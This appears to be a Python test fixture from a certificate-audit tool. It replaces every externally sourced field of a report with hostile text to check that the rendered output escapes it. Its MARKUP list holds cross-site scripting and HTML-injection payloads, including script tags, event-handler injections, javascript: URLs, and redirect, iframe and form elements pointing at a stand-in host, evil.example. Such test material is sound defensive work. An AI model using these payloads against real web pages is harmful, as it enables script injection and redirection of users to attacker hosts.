"""A report in which every text that comes from outside is hostile: names that certificates, files and people bear."""

from __future__ import annotations

import copy
import itertools
from collections.abc import Iterator
from typing import Any

from certaudit.document.report_objects import Document
from tests.test_printable import HOSTILE

MARKUP = [
    "<script>alert(1)</script>",
    "</style><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    '"><svg onload=alert(4)>',
    "' onmouseover='alert(5)",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<iframe src="https://evil.example/"></iframe>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<form action="https://evil.example/"><input name=q></form>',
    "<a href=javascript:alert(6)>x</a>",
    "javascript:alert(7)",
    "{{ 7 * 7 }}{% raw %}",
    "<!-- ",
    "]]>",
    "&lt;b&gt;",
]
_OUTSIDE = {
    "system", "subject", "subjects", "message", "observed", "expected", "consequence", "remediation", "title", "path",
    "error", "what", "systems", "issuer", "names", "friendly_name", "entry", "store", "location", "host", "input",
    "remarks", "anomalies", "warnings", "citations", "waiver", "owner", "reason", "template", "container", "provider",
    "refused_by_openssl", "signature_algorithm", "role", "format",
}  # fmt: skip


def hostile(document: Document) -> Document:
    """`document` with a hostile text in place of each text from outside, one after the other, none made inert."""
    texts = itertools.cycle([*MARKUP, *HOSTILE])
    changed: Document = _changed(copy.deepcopy(document), texts, outside=False)
    if changed["site"] is not None:
        changed["site"]["name"] = MARKUP[0]
    return changed


def _changed(value: Any, texts: Iterator[str], *, outside: bool) -> Any:
    if isinstance(value, dict):
        return {key: _changed(item, texts, outside=key in _OUTSIDE) for key, item in value.items()}
    if isinstance(value, list):
        return [_changed(item, texts, outside=outside) for item in value]
    return next(texts) if outside and isinstance(value, str) else value
